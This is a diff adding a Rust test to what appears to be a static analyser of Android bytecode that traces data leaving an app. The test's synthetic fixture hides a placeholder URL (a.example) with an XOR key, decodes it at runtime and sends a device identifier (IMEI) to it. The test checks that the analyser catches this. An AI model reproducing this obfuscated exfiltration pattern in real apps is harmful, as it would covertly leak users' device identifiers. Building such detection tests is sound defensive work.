@@ -340,6 +340,53 @@ fn an_address_put_together_in_another_method_is_known_where_data_leaves() {
 }
 
 #[test]
+fn an_address_that_is_hidden_by_a_key_is_known_where_data_leaves() {
+    let url = "Ljava/net/URL;";
+    let of_text = "(Ljava/lang/String;)Ljava/lang/String;";
+    let (all, _) = leaks(|dex| {
+        create(dex, |m| {
+            read(m, 1);
+            let hidden: String = "http://a.example/?id="
+                .bytes()
+                .map(|b| char::from(b ^ 5))
+                .collect();
+            m.const_string(2, &hidden);
+            m.invoke_static("La/D;", "d", of_text, &[2]).move_result_object(2);
+            m.invoke_virtual(STRING, "concat", of_text, &[2, 1]);
+            m.move_result_object(1);
+            m.new_instance(0, url);
+            m.invoke_direct(url, "<init>", "(Ljava/lang/String;)V", &[0, 1]);
+            m.invoke_virtual(url, "openStream", "()Ljava/io/InputStream;", &[0]);
+            m.return_void();
+        });
+        dex.class("La/D;").method("d", of_text, 6, |m| {
+            m.invoke_virtual(STRING, "toCharArray", "()[C", &[5])
+                .move_result_object(0)
+                .array_length(2, 0)
+                .const_int(1, 0)
+                .const_int(4, 1)
+                .label("loop")
+                .if_cmp(0x35, 1, 2, "end")
+                .op_23x(0x49, 3, 0, 1)
+                // xor-int/lit8
+                .raw(&[0x03df, 0x0503])
+                .op_12x(0x8e, 3, 3)
+                .op_23x(0x50, 3, 0, 1)
+                .op_12x(0xb0, 1, 4)
+                .goto("loop")
+                .label("end")
+                .invoke_static(STRING, "valueOf", "([C)Ljava/lang/String;", &[0])
+                .move_result_object(0)
+                .return_object(0);
+        });
+    });
+    assert!(
+        all.contains(&"imei by net to http://a.example/?id={}".to_owned()),
+        "{all:?}"
+    );
+}
+
+#[test]
 fn code_that_nobody_starts_sends_nothing() {
     let (all, _) = leaks(|dex| {
         create(dex, |m| {
